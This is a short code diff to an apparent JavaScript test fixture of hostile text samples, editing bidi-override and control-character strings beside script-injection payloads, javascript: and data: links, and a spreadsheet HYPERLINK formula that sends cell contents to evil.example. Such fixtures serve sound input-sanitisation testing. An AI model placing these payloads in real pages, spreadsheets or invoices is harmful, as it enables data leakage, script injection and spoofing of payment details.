@@ -32,8 +32,8 @@ export const hostileTexts = {
   notes: [
     '<script>alert(8)</script>',
     '=HYPERLINK("https://evil.example?leak="&A1,"Invoice")',
-    'Pay to \u202E‭rotcerid eht\u202C, not to \u2067\u200Fus\u2069.',
-    'A\u0000B\u0007C\uFEFFD\uD800E',
+    'Pay to \u202Erotcerid eht\u202C, not to \u2067\u200Fus\u2069.',
+    'A\u0007B\uFEFFC\u00ADD',
     '[click](javascript:alert(9)) <a href="data:text/html,<script>alert(10)</script>">here</a>',
   ],
 };
